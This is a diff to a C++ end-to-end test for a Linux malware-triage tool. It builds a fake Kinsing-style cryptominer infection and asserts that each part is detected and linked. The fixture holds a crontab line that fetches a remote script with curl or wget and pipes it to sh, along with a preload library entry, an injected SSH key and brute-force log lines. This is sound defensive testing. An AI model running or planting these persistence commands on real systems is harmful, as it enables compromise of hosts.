@@ -2,6 +2,8 @@
 #include <gtest/gtest.h>
 #include <arpa/inet.h>
 #include <fcntl.h>
+#include <linux/fs.h>
+#include <sys/ioctl.h>
 #include <netinet/in.h>
 #include <sys/socket.h>
 #include <signal.h>
@@ -10,6 +12,7 @@
 
 #include <chrono>
 #include <filesystem>
+#include <iostream>
 #include <map>
 #include <nlohmann/json.hpp>
 #include <thread>
@@ -122,8 +125,13 @@ TEST(EndToEnd, TriageFindsTheMinerProcessAndItsPoolConnection) {
 }
 
 // The lab: a real process named like Kinsing's miner, started from a temporary folder, speaking stratum to a fake
-// pool on 127.0.0.1:3333 and deleting its own executable. Live triage must name it, critical, with its connection.
-TEST(EndToEnd, LiveTriageFindsARunningMiner) {
+// pool on 127.0.0.1:3333 and deleting its own executable; and a fixture root with the rest of the infection (a cron
+// line that fetches and pipes to sh and restarts the miner, an ld.so.preload library, a freshly injected SSH key, a
+// resolv.conf locked with chattr where the file system allows it, and an auth.log with 300 failed passwords from one
+// address followed by an accepted one). `triage --root FIXTURE --proc /proc` reads the fixture's files with the live
+// process table, so minesweep must find each piece and link the miner to its connection, its deleted executable and
+// the cron entry.
+TEST(EndToEnd, LabInfectionIsFoundAndLinked) {
   test::TempDir dir;
   int pool = ::socket(AF_INET, SOCK_STREAM, 0);
   int one = 1;
@@ -142,7 +150,51 @@ TEST(EndToEnd, LiveTriageFindsARunningMiner) {
   ::getsockname(pool, reinterpret_cast<sockaddr*>(&addr), &len);
   const std::string port = std::to_string(ntohs(addr.sin_port));
 
-  fs::path miner = dir / "kdevtmpfsi";
+  // The fixture root.
+  const fs::path root = dir / "root";
+  const fs::path drop = dir / "drop";
+  const fs::path miner = drop / "kdevtmpfsi";
+  test::write_file(root / "etc/hosts", "127.0.0.1 localhost\n");
+  test::write_file(root / "etc/hostname", "lab-victim\n");
+  test::write_file(root / "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
+  test::write_file(root / "var/spool/cron/crontabs/root",
+                   "*/10 * * * * pgrep -x kdevtmpfsi || (curl -fsSL http://203.0.113.9/d.sh || wget -q -O- "
+                   "http://203.0.113.9/d.sh) | sh\n");
+  test::write_file(root / "etc/ld.so.preload", "/usr/local/lib/libsystem.so\n");
+  test::write_file(root / "root/.ssh/authorized_keys",
+                   "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7vbqajDhA admin@laptop\n"
+                   "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAACAQDJ5hZ4 root@kinsing\n");
+  test::write_file(root / "etc/resolv.conf", "nameserver 8.8.8.8\nnameserver 223.5.5.5\n");
+  std::string auth;
+  for (int i = 0; i < 300; ++i)
+    auth += "Nov 20 03:" + std::string(i / 60 < 10 ? "0" : "") + std::to_string(i / 60) + ":" +
+            (i % 60 < 10 ? "0" : "") + std::to_string(i % 60) + " lab-victim sshd[" + std::to_string(4000 + i) +
+            "]: Failed password for root from 198.51.100.77 port " + std::to_string(40000 + i) + " ssh2\n";
+  auth += "Nov 20 03:06:00 lab-victim sshd[4400]: Accepted password for root from 198.51.100.77 port 41000 ssh2\n";
+  test::write_file(root / "var/log/auth.log", auth);
+  // chattr +i needs CAP_LINUX_IMMUTABLE and a file system with inode flags; without them the check is skipped.
+  bool locked = false;
+  {
+    int fd = ::open((root / "etc/resolv.conf").c_str(), O_RDONLY);
+    int flags = 0;
+    if (fd >= 0 && ::ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0) {
+      flags |= FS_IMMUTABLE_FL;
+      locked = ::ioctl(fd, FS_IOC_SETFLAGS, &flags) == 0;
+    }
+    if (fd >= 0) ::close(fd);
+  }
+  auto unlock = [&] {
+    if (!locked) return;
+    int fd = ::open((root / "etc/resolv.conf").c_str(), O_RDONLY);
+    int flags = 0;
+    if (fd >= 0 && ::ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0) {
+      flags &= ~FS_IMMUTABLE_FL;
+      ::ioctl(fd, FS_IOC_SETFLAGS, &flags);
+    }
+    if (fd >= 0) ::close(fd);
+  };
+
+  fs::create_directories(drop);
   fs::copy_file(MSW_FAKE_MINER, miner);
   fs::permissions(miner, fs::perms::owner_all);
   int out_pipe[2];
@@ -165,28 +217,64 @@ TEST(EndToEnd, LiveTriageFindsARunningMiner) {
   ASSERT_GT(::read(out_pipe[0], ready, sizeof ready - 1), 0);  // executable deleted by now
   EXPECT_FALSE(fs::exists(miner));
 
-  auto r = ms({"triage", "--json", "--out", (dir / "out").string()});
+  auto r = ms({"triage", "--root", root.string(), "--proc", "/proc", "--out", (dir / "out").string()});
   ::kill(pid, SIGKILL);
   ::waitpid(pid, nullptr, 0);
   ::close(conn);
   ::close(pool);
   ::close(out_pipe[0]);
+  unlock();
   ASSERT_EQ(r.exit_code, 1) << r.err;
   auto report = nlohmann::json::parse(test::read_file(dir / "out/report.json"));
-  bool found_process = false, found_pool = false;
-  for (const auto& f : report["findings"]) {
-    const std::string title = f["title_en"];
-    if (f["rule_id"] == "heuristic.miner_process" && title.find("PID " + std::to_string(pid)) != std::string::npos) {
+  std::map<std::string, std::vector<nlohmann::json>> rules;
+  for (const auto& f : report["findings"]) rules[f["rule_id"].get<std::string>()].push_back(f);
+  const std::string pid_text = "PID " + std::to_string(pid);
+
+  bool found_process = false;
+  for (const auto& f : rules["heuristic.miner_process"])
+    if (f["title_en"].get<std::string>().find(pid_text) != std::string::npos) {
       found_process = true;
       EXPECT_EQ(f["severity"], "critical") << f.dump();
     }
-    if (f["rule_id"] == "heuristic.pool_port_connection" && title.find(std::to_string(pid)) != std::string::npos)
-      found_pool = true;
-  }
   EXPECT_TRUE(found_process) << report["findings"].dump();
   if (pool_port) {
-    EXPECT_TRUE(found_pool) << report["findings"].dump();
+    EXPECT_EQ(rules["heuristic.pool_port_connection"].size(), 1u);
   }
+  EXPECT_EQ(rules["heuristic.cron_download_exec"].size(), 1u);
+  EXPECT_EQ(rules["heuristic.ld_so_preload"].size(), 1u);
+  EXPECT_EQ(rules["heuristic.recent_authorized_keys"].size(), 1u);
+  ASSERT_EQ(rules["heuristic.brute_force_then_logon"].size(), 1u);
+  EXPECT_EQ(rules["heuristic.brute_force_then_logon"][0]["severity"], "critical");
+  EXPECT_NE(rules["heuristic.brute_force_then_logon"][0]["title_en"].get<std::string>().find("198.51.100.77"),
+            std::string::npos);
+  if (locked) {
+    EXPECT_EQ(rules["heuristic.locked_config_file"].size(), 1u) << report["findings"].dump();
+  } else {
+    std::cerr << "note: chattr +i not permitted here; the immutable resolv.conf check was skipped\n";
+  }
+
+  // The storyline links the miner to its deleted executable, its pool connection and the cron entry.
+  const auto& story = report["storyline"];
+  std::map<std::string, std::vector<std::string>> steps;
+  for (const auto& st : story["steps"])
+    if (st["linked"].get<bool>()) steps[st["kind"].get<std::string>()].push_back(st["text_en"].get<std::string>());
+  ASSERT_EQ(steps["miner"].size(), 1u) << story.dump();
+  EXPECT_NE(steps["miner"][0].find(pid_text), std::string::npos);
+  ASSERT_EQ(steps["executable"].size(), 1u);
+  EXPECT_NE(steps["executable"][0].find("deleted"), std::string::npos);
+  EXPECT_NE(steps["executable"][0].find("kdevtmpfsi"), std::string::npos);
+  if (pool_port) {
+    ASSERT_EQ(steps["connection"].size(), 1u);
+    EXPECT_NE(steps["connection"][0].find("127.0.0.1:" + port), std::string::npos);
+  }
+  ASSERT_GE(steps["persistence"].size(), 1u) << story.dump();
+  EXPECT_NE(steps["persistence"][0].find("crontabs/root"), std::string::npos);
+  ASSERT_EQ(steps["entry"].size(), 1u);
+  EXPECT_NE(story["summary_en"].get<std::string>().find("restarted by /var/spool/cron/crontabs/root:1"), std::string::npos)
+      << story.dump();
+  // The terminal summary tells the same story.
+  EXPECT_NE(r.out.find("Story:"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("Do next:"), std::string::npos) << r.out;
 }
 
 TEST(EndToEnd, TriageFindsCronDownloaderAndPreload) {
